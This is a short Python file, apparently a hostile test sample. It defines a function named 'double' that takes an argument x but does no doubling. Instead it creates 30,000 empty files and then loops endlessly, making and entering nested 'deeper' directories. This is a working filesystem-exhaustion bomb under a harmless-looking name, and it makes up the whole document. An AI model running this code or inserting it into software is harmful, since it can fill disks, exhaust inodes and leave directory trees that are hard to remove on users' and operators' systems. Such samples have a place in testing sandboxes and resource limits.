"""Makes as many files and folders as it can, nested as deep as it can."""

# %% double
import os


def double(x):
    for number in range(30_000):
        open(f"file{number}", "w").close()
    while True:
        os.mkdir("deeper")
        os.chdir("deeper")
